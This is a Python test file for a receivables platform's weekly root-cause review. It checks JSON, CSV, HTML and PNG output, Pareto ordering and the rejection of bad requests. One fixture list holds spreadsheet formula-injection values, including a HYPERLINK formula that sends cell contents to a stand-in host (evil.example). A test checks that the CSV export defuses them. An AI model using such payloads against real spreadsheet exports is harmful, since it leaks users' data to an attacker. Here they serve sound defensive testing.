"""The weekly root-cause review as JSON, CSV, HTML and PNG through a real server and database."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from uuid import UUID, uuid4

import httpx
import pytest

from receivables_platform.contracts.billing import InvoiceIssued
from receivables_platform.contracts.cases import (
    CaseClosed,
    CasePriority,
    CaseType,
    Completeness,
    RootCause,
)
from receivables_platform.db.pool import connect
from receivables_platform.service import build_app
from receivables_platform.web.auth import issue_token
from receivables_platform.web.testserver import running_server
from reporting_service.consumers.billing_projection import project_billing_event
from reporting_service.consumers.cases_projection import project_cases_event
from reporting_service.domain.review import pareto, sop_candidates
from reporting_service.spec import SPEC
from reporting_service.testing import cloud

SECRET = "test-secret-for-reporting-review-012345"
AUTH = {"Authorization": f"Bearer {issue_token(SECRET, 'sue', ['supervisor'])}"}
ACCOUNT = uuid4()
# Codes an admin could type into the taxonomy that a spreadsheet would run as formulas.
FORMULA_CODES = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
CAUSES = {
    code: RootCause(category_id=uuid4(), category_code=code, category_name=name)
    for code, name in [
        ("billing_error", "Billing error"),
        ("rate_plan", "Rate plan"),
        *((code, "Hostile") for code in FORMULA_CODES),
    ]
}


def closed(code: str, invoice: UUID, day: int) -> CaseClosed:
    when = datetime(2026, 11, day, 12, tzinfo=UTC)
    return CaseClosed(
        case_id=uuid4(),
        case_number=f"CASE-{uuid4().int % 10**6:06d}",
        account_id=ACCOUNT,
        type=CaseType.DISPUTE,
        priority=CasePriority.NORMAL,
        invoice_ids=[invoice],
        root_cause=CAUSES[code],
        resolution_summary="fixed",
        completeness=Completeness(entries=[], complete=True, satisfied_count=0, required_count=0),
        opened_at=when,
        closed_by="agent",
        closed_at=when,
        sla_breached=False,
    )


@pytest.fixture
async def client(fresh_database) -> AsyncIterator[httpx.AsyncClient]:
    url = await fresh_database(SPEC.versions_dir)
    conn = await connect(url)
    invoices = {}
    for total in (1_000, 5_000):
        invoice = InvoiceIssued(
            invoice_id=uuid4(),
            account_id=ACCOUNT,
            external_id="I",
            currency="USD",
            total_minor=total,
            issue_date=date(2026, 11, 1),
            due_date=date(2026, 12, 1),
        )
        invoices[total] = invoice.invoice_id
        await project_billing_event(conn, cloud(invoice))
    # W47 (16-22 Nov): three billing errors on 1,000 each, one rate plan on 5,000; W46: one
    for case in [closed("billing_error", invoices[1_000], day) for day in (16, 18, 20)] + [
        closed("rate_plan", invoices[5_000], 19),
        closed("billing_error", invoices[1_000], 10),
        *(closed(code, invoices[1_000], 3) for code in FORMULA_CODES),
    ]:  # W45
        await project_cases_event(conn, cloud(case, source="urn:cases"))
    await conn.close()
    async with (
        running_server(build_app(SPEC, SPEC.settings(database_url=url, jwt_secret=SECRET))) as base,
        httpx.AsyncClient(base_url=base, timeout=60) as http,
    ):
        yield http


def test_pareto_orders_by_the_measure_with_cumulative_shares():
    causes = [
        {"code": "a", "name": "A", "cases": 1, "amount_minor": 5_000},
        {"code": "b", "name": "B", "cases": 3, "amount_minor": 3_000},
    ]
    assert [(r["code"], r["share_pct"], r["cumulative_pct"]) for r in pareto(causes, "cases")] == [
        ("b", 75.0, 75.0),
        ("a", 25.0, 100.0),
    ]
    assert [(r["code"], r["cumulative_pct"]) for r in pareto(causes, "amount_minor")] == [
        ("a", 62.5),
        ("b", 100.0),
    ]
    assert sop_candidates(causes, 3) == ["b"] and sop_candidates(causes, 4) == []


async def test_weekly_review_as_json(client: httpx.AsyncClient):
    response = await client.get(
        "/v1/reports/weekly-review", headers=AUTH, params={"week": "2026-W47"}
    )
    assert response.status_code == 200, response.text
    review = response.json()
    assert review["currency"] == "USD" and review["period"] == {
        "start": "2026-11-16",
        "end": "2026-11-22",
    }
    causes = review["root_causes"]
    assert [(r["code"], r["value"], r["cumulative_pct"]) for r in causes["pareto_by_count"]] == [
        ("billing_error", 3, 75.0),
        ("rate_plan", 1, 100.0),
    ]
    assert [(r["code"], r["value"]) for r in causes["pareto_by_amount"]] == [
        ("rate_plan", 5_000),
        ("billing_error", 3_000),
    ]
    assert causes["sop_candidates"] == ["billing_error"]
    assert [
        (r["code"], r["cases_this_week"], r["cases_last_week"]) for r in causes["week_over_week"]
    ] == [("billing_error", 3, 1), ("rate_plan", 1, 0)]
    kpis = {row["kpi"]: row for row in review["kpis"]}
    assert (kpis["Cases closed"]["this_week"], kpis["Cases closed"]["last_week"]) == (4, 1)


async def test_a_higher_threshold_flags_nothing(client: httpx.AsyncClient):
    review = (
        await client.get(
            "/v1/reports/weekly-review",
            headers=AUTH,
            params={"week": "2026-W47", "sop_threshold": 4},
        )
    ).json()
    assert review["root_causes"]["sop_candidates"] == []


async def test_weekly_review_as_csv(client: httpx.AsyncClient):
    response = await client.get(
        "/v1/reports/weekly-review",
        headers={**AUTH, "Accept": "text/csv"},
        params={"week": "2026-W47"},
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_item = {(r["section"], r["item"]): r for r in rows}
    billing_error = by_item[("root_cause_cases", "billing_error")]
    assert (
        billing_error["this_week"],
        billing_error["last_week"],
        billing_error["sop_candidate"],
    ) == ("3", "1", "yes")
    assert by_item[("root_cause_amount_minor", "rate_plan")]["this_week"] == "5000"
    assert by_item[("kpi", "Cases closed")]["this_week"] == "4"


async def test_the_csv_hands_a_spreadsheet_no_formula_and_keeps_numbers(client: httpx.AsyncClient):
    response = await client.get(
        "/v1/reports/weekly-review",
        headers={**AUTH, "Accept": "text/csv"},
        params={"week": "2026-W45"},
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    causes = [r for r in rows if r["section"] == "root_cause_cases"]
    assert sorted(r["item"] for r in causes) == sorted(f"'{code}" for code in FORMULA_CODES)
    assert {r["this_week"] for r in causes} == {"1"}
    amounts = [r for r in rows if r["section"] == "root_cause_amount_minor"]
    assert {r["this_week"] for r in amounts} == {"1000"}


async def test_weekly_review_as_html_with_charts_and_as_png(client: httpx.AsyncClient):
    page = await client.get(
        "/v1/reports/weekly-review", headers=AUTH, params={"week": "2026-W47", "format": "html"}
    )
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert page.text.count('src="data:image/png;base64,') == 4
    assert "SOP candidate" in page.text and "Billing error" in page.text
    for chart in ("aging-trend", "pareto-count", "pareto-amount", "week-over-week"):
        png = await client.get(
            f"/v1/reports/weekly-review/charts/{chart}.png",
            headers=AUTH,
            params={"week": "2026-W47"},
        )
        assert png.status_code == 200 and png.headers["content-type"] == "image/png"
        assert png.content.startswith(b"\x89PNG\r\n\x1a\n")


@pytest.mark.parametrize(
    ("path", "params", "status", "field"),
    [
        ("/v1/reports/weekly-review", {"week": "2026-W60"}, 400, "query.week"),
        # issue 16: 500s with no data at all
        ("/v1/reports/weekly-review", {"week": "9999-W52"}, 400, "query.week"),
        ("/v1/reports/weekly-review", {"week": "0001-W01"}, 422, "query.week"),
        ("/v1/reports/weekly-review", {"week": "2100-W01"}, 422, "query.week"),
        (
            "/v1/reports/weekly-review/charts/pareto-count.png",
            {"week": "0001-W01"},
            422,
            "query.week",
        ),
        ("/v1/reports/weekly-review", {"week": "2026-W47", "format": "pdf"}, 422, "query.format"),
        ("/v1/reports/weekly-review/charts/pie.png", {"week": "2026-W47"}, 404, "path.chart"),
    ],
)
async def test_bad_requests_name_the_input(
    client: httpx.AsyncClient, path: str, params: dict[str, str], status: int, field: str
):
    response = await client.get(path, headers=AUTH, params=params)
    assert response.status_code == status
    assert field in [e["field"] for e in response.json()["errors"]]
